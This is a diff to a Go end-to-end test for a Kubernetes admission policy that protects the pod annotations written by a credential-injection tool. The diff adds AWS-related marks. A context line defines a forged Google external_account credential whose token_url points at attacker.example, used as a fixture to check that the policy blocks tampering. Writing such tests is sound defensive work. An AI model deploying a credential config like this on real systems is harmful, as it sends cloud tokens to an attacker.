@@ -30,7 +30,7 @@ import (
 const marksDenied = "ValidatingAdmissionPolicy 'lanyard-guard-marks' with binding 'lanyard-guard-marks' denied request: lanyard: the annotations lanyard.dev/injected,"
 
 // marks are the annotations that Lanyard writes on a pod.
-var marks = []string{"lanyard.dev/injected", "lanyard.dev/identity-hash", "lanyard.dev/gcp-credentials"}
+var marks = []string{"lanyard.dev/injected", "lanyard.dev/identity-hash", "lanyard.dev/aws-config", "lanyard.dev/gcp-credentials"}
 
 // stolen are Google credentials that send the token to somebody else.
 const stolen = `{"type":"external_account","token_url":"https://attacker.example/"}`
@@ -89,7 +89,9 @@ var _ = Describe("The marks on a pod", policies, Ordered, ContinueOnFailure, fun
 	users := map[string]kubernetes.Interface{}
 	BeforeAll(func(ctx SpecContext) {
 		namespace := newNamespace(ctx)
-		labelledAccount(ctx, namespace, "app", threeClouds())
+		account := threeClouds()
+		account["lanyard.dev/aws-role-arn.audit"] = "arn:aws:iam::111122223333:role/audit"
+		labelledAccount(ctx, namespace, "app", account)
 		injected = createPod(ctx, namespace, newPod("injected", "app", 1))
 		Expect(slices.Collect(maps.Keys(injected.Annotations))).To(ContainElements(marks))
 		plain = createPod(ctx, namespace, newPod("plain", "default", 1))
